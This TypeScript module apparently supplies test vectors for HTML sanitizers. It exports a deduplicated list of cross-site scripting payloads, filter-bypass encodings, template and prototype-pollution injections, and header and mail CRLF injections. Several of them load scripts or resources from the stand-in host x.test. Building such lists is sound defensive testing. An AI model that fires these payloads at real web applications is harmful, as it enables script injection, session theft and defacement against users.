// Texts that would run a script, or fetch from x.test, where anything takes them for markup, an address, a style or code.

const run = "alert(1)";
const list = (text: string) =>
  text
    .trim()
    .split("\n")
    .map((line) => line.trim());

const elements = list(`
<script>${run}</script>
<SCRIPT>${run}</SCRIPT>
<script src=//x.test/a.js></script>
<script type=module>import("//x.test/a.mjs")</script>
<script>fetch("//x.test/f")</script>
</script><script>${run}</script>
</title><script>${run}</script>
</textarea><script>${run}</script>
</style><script>${run}</script>
</noscript><script>${run}</script>
</template><script>${run}</script>
</svg><script>${run}</script>
--><script>${run}</script>
]]><script>${run}</script>
"><script>${run}</script>
'><script>${run}</script>
><script>${run}</script>
<scr<script>ipt>${run}</scr</script>ipt>
<script/x>${run}</script >
<script\t>${run}</script\t>
<<script>${run}//<</script>
<script>${run}<!--
<iframe src=javascript:${run}></iframe>
<iframe srcdoc="<script>${run}</script>"></iframe>
<object data=javascript:${run}></object>
<object data="data:text/html,<script>${run}</script>"></object>
<embed src=javascript:${run}>
<base href=//x.test/>
<link rel=stylesheet href=//x.test/a.css>
<link rel=import href=//x.test/a.html>
<meta http-equiv=refresh content="0;url=javascript:${run}">
<meta http-equiv=refresh content="0;url=//x.test/m">
<form action=javascript:${run}><input type=submit autofocus></form>
<isindex action=javascript:${run} type=image>
<frameset onload=${run}>
<portal src=//x.test/p onload=${run}>
<dialog open onclose=${run}><form method=dialog><button autofocus>x
`);
const handlers = list(`
<img src=x onerror=${run}>
<img src=x:x onerror="${run}">
<img/src="x"/onerror=${run}>
<IMG SRC=x ONERROR=${run}>
"><img src=x onerror=${run}>
' onerror='${run}' x='
" onerror="${run}" x="
" onfocus=${run} autofocus tabindex=1 x="
' onmouseover=${run} style='position:fixed;inset:0' x='
\` onerror=${run} x=\`
<body onload=${run}>
<body onpageshow=${run}>
<svg onload=${run}>
<svg/onload=${run}>
<input onfocus=${run} autofocus>
<select onfocus=${run} autofocus></select>
<textarea onfocus=${run} autofocus></textarea>
<video src=x onerror=${run}></video>
<video><source onerror=${run}></video>
<audio src=x onerror=${run}></audio>
<details open ontoggle=${run}>x</details>
<marquee onstart=${run}>x</marquee>
<a href=x onclick=${run} id=x tabindex=1 autofocus onfocus=${run}>x</a>
<div onanimationstart=${run} style="animation:spin 1s">
<style>@keyframes q{}</style><p style="animation:q 1s" onanimationend=${run}>
<p contenteditable autofocus onfocus=${run}>
<img src onerror=${run}//
<img src=x one\u0000rror=${run}>
<img src=x onerror=\u2028${run}>
<x onbeforematch=${run} hidden=until-found>
<img src=//x.test/i.png>
<img srcset="//x.test/s.png 1x">
<picture><source srcset=//x.test/p.png><img></picture>
`);
const foreign = list(`
<svg><script>${run}</script></svg>
<svg><script href=//x.test/s.js /></svg>
<svg><a xlink:href=javascript:${run}><text y=20>x</text></a></svg>
<svg><animate onbegin=${run} attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=${run}>
<svg><foreignObject><body xmlns=http://www.w3.org/1999/xhtml onload=${run}></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${run}/>#x"/></svg>
<svg><image href=//x.test/i.svg />
<svg><style>*{background:url(//x.test/b)}</style></svg>
<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>
<svg><title><style><img src=x onerror=${run}></style></title></svg>
<?xml-stylesheet type="text/xsl" href="//x.test/a.xsl"?>
<!DOCTYPE svg [<!ENTITY x SYSTEM "//x.test/e">]>&x;
<math><mtext><table><mglyph><style><img src=x onerror=${run}>
<math><mi//xlink:href="javascript:${run}">x
<math><annotation-xml encoding=text/html><script>${run}</script>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>
<noscript><p title="</noscript><img src=x onerror=${run}>">
<svg></p><style><a id="</style><img src=x onerror=${run}>">
<table><td><select><style></select><img src=x onerror=${run}></style>
<template><style></template><img src=x onerror=${run}></style>
<xmp><p title="</xmp><img src=x onerror=${run}>">
<listing>&lt;img src=x onerror=${run}&gt;</listing>
`);
const codes = list(`
javascript:${run}
JaVaScRiPt:${run}
java\tscript:${run}
\u0001javascript:${run}
javascript://%0a${run}
javascript&colon;${run}
&#106;avascript:${run}
data:text/html,<script>${run}</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
[x](javascript:${run})
![x](x"onerror="${run})
<javascript:${run}>
//x.test/
&lt;script&gt;${run}&lt;/script&gt;
&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;
&#60;script&#62;${run}&#60;/script&#62;
&#x3c;img src=x onerror=${run}&#x3e;
\\u003cscript\\u003e${run}\\u003c/script\\u003e
\\x3cscript\\x3e${run}\\x3c/script\\x3e
%3Cscript%3E${run}%3C/script%3E
+ADw-script+AD4-${run}+ADw-/script+AD4-
＜script＞${run}＜/script＞
‹script›${run}‹/script›
<scrıpt>${run}</scrıpt>
<ſcript>${run}</ſcript>
\u202e<script>${run}</script>\u202c
<\u0000script>${run}</script>
<script\u00a0>${run}</script>
\ufeff<script>${run}</script>
"-${run}-"
'-${run}-'
\\"-${run}}//
\\'-${run}//
";${run}//
\${${run}}
\`\${${run}}\`
{{constructor.constructor('${run}')()}}
{{${run}}}
<%= ${run} %>
#{${run}}
$t(${run})
"},"x":${run},{"y":"
{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}
<!--<script>${run}--></script>
<![CDATA[<script>${run}</script>]]>
/*</style>*/<script>${run}</script>
}*{background:url(//x.test/c)}
red;background:url(//x.test/c)
@import "//x.test/c.css";
expression(${run})
\\3c script\\3e ${run}
=HYPERLINK("//x.test/h","x")
) /JS (${run}) /S /JavaScript (
endstream endobj 1 0 obj <</OpenAction <</S/JavaScript/JS(${run})>>>>
<?xpacket end="w"?><script>${run}</script>
</rdf:RDF></x:xmpmeta><script>${run}</script>
`);

/** What would end a head of a request or a mail. */
const splitting = [`x\r\ncontent-type: text/html\r\n\r\n<script>${run}</script>`, `x\nbcc: reader@x.test\n\n<script>${run}</script>`];

/** Every one once; each fits into the shortest field that holds a text of its owner's. */
export const vectors: readonly string[] = [...new Set([...elements, ...handlers, ...foreign, ...codes, ...splitting])];
